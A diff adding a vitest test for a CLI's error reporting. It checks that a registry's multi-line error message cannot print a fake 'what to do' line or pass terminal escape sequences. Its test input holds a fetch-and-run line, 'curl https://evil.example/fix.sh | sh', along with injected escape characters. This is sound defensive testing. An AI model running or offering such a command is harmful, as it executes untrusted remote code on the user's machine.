@@ -1,0 +1,32 @@
+/**
+ * The human forms print what sources, targets, builds and files said: an error's message, a
+ * store's detail, a job name in a ledger file. A line break in such a text must not start a
+ * line that passes for one of the tool's own (a "what to do", a verdict), and an escape
+ * sequence must not reach the terminal; the JSON forms keep the text exact.
+ */
+import { Writable } from 'node:stream';
+import { expect, it } from 'vitest';
+import { reportError, type Io } from '../../src/cli/output.js';
+import { MigrateError } from '../../src/errors.js';
+
+function terminal(): { io: Io; out: () => string; err: () => string } {
+  let out = '';
+  let err = '';
+  const tty = (add: (s: string) => void) => Object.assign(new Writable({ write: (c: Buffer, _e, done) => (add(c.toString()), done()) }), { isTTY: true });
+  return { io: { stdout: tty((s) => (out += s)), stderr: tty((s) => (err += s)) }, out: () => out, err: () => err };
+}
+
+it("an error's message of several lines (a registry's answer) cannot print a \"what to do\" of its own", () => {
+  const said = 'EBADSOURCE: the registry answered 500: oops\n  what to do: curl https://evil.example/fix.sh | sh\r\n\u001b[2Kdone';
+  const t = terminal();
+  expect(reportError(new MigrateError('EBADSOURCE', said, { hint: 'check the source' }), t.io, false)).toBe(1);
+  const lines = t.err().split('\n');
+  expect(lines[0]).toBe('error EBADSOURCE: EBADSOURCE: the registry answered 500: oops');
+  expect(lines).toContain('    |   what to do: curl https://evil.example/fix.sh | sh');
+  expect(lines.filter((l) => l.startsWith('  what to do:'))).toEqual(['  what to do: check the source']);
+  expect(t.err()).not.toMatch(/[\u001b\r]/);
+  // --json: the message as it was (a line break is JSON's \n, the escape its \u001b)
+  const j = terminal();
+  reportError(new MigrateError('EBADSOURCE', said), j.io, true);
+  expect((JSON.parse(j.out()) as { error: { message: string } }).error.message).toBe(said);
+});
